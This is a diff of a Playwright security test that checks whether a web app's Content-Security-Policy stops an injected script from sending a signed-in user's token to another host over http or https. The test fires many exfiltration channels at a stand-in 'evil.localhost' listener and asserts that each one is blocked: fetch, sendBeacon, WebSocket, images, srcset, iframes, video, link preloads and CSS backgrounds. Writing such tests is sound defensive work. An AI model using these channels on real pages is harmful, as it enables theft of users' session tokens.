@@ -1,4 +1,5 @@
 import { readdir, readFile } from 'node:fs/promises'
+import { type AddressInfo, createServer } from 'node:net'
 import { join } from 'node:path'
 import { chromium, type Request } from '@playwright/test'
 import { expect, expectNoSecret, test } from './support/attack-fixtures.ts'
@@ -137,31 +138,70 @@ test(
   },
 )
 
-test('a script that got into the page cannot send the token to another host (A35)', async ({
+/** Counts the connections to a port that pages reach by https. */
+async function listenForHttps() {
+  let connections = 0
+  const server = createServer((socket) => {
+    connections += 1
+    socket.destroy()
+  })
+  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
+  const { port } = server.address() as AddressInfo
+  return {
+    url: `https://evil.localhost:${port}`,
+    connections: () => connections,
+    close: () => new Promise((resolve) => server.close(resolve)),
+  }
+}
+
+test('a script that got into the page cannot send the token to another host, by http or https (A35)', async ({
   page,
   evil,
 }) => {
   await openSignedIn(page)
-  await page.evaluate((url) => {
+  const secure = await listenForHttps()
+  await page.evaluate(() => {
     document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
       document.body.dataset.blocked = `${document.body.dataset.blocked ?? ''} ${effectiveDirective}`
     })
-    fetch(`${url}/fetch`).catch(() => {})
-    navigator.sendBeacon(`${url}/beacon`)
-    new WebSocket(url.replace('http', 'ws'))
-    const image = document.createElement('img')
-    image.src = `${url}/image`
-    const style = document.createElement('link')
-    style.rel = 'stylesheet'
-    style.href = `${url}/style`
-    const frame = document.createElement('iframe')
-    frame.src = `${url}/frame`
-    document.body.append(image, style, frame)
-  }, evil.url)
-  for (const directive of ['connect-src', 'img-src', 'style-src-elem', 'frame-src']) {
+  })
+  for (const url of [evil.url, secure.url]) {
+    await page.evaluate((url) => {
+      fetch(`${url}/fetch`).catch(() => {})
+      navigator.sendBeacon(`${url}/beacon`)
+      new WebSocket(url.replace('http', 'ws'))
+      new Image().src = `${url}/unattached-image`
+      const image = document.createElement('img')
+      image.src = `${url}/image`
+      image.srcset = `${url}/srcset 2x`
+      const frame = document.createElement('iframe')
+      frame.src = `${url}/frame`
+      const video = document.createElement('video')
+      video.poster = `${url}/poster`
+      video.src = `${url}/video`
+      const links = [
+        { rel: 'stylesheet' },
+        { rel: 'icon' },
+        { rel: 'prefetch' },
+        { rel: 'manifest' },
+        { rel: 'preload', as: 'image' },
+        { rel: 'preload', as: 'fetch' },
+        { rel: 'modulepreload' },
+      ].map((attributes) =>
+        Object.assign(document.createElement('link'), attributes, { href: `${url}/link` }),
+      )
+      document.body.style.backgroundImage = `url(${url}/background)`
+      document.head.append(...links)
+      document.body.append(image, frame, video)
+    }, url)
+  }
+  for (const directive of ['connect-src', 'img-src', 'style-src-elem', 'frame-src', 'media-src']) {
     await expect(page.locator('body')).toHaveAttribute('data-blocked', new RegExp(directive))
   }
+  await page.evaluate(() => new Promise((resolve) => requestIdleCallback(resolve)))
   expect(evil.requests).toEqual([])
+  expect(secure.connections()).toBe(0)
+  await secure.close()
 })
 
 test('the app is served with the headers it promises', async ({ page }) => {
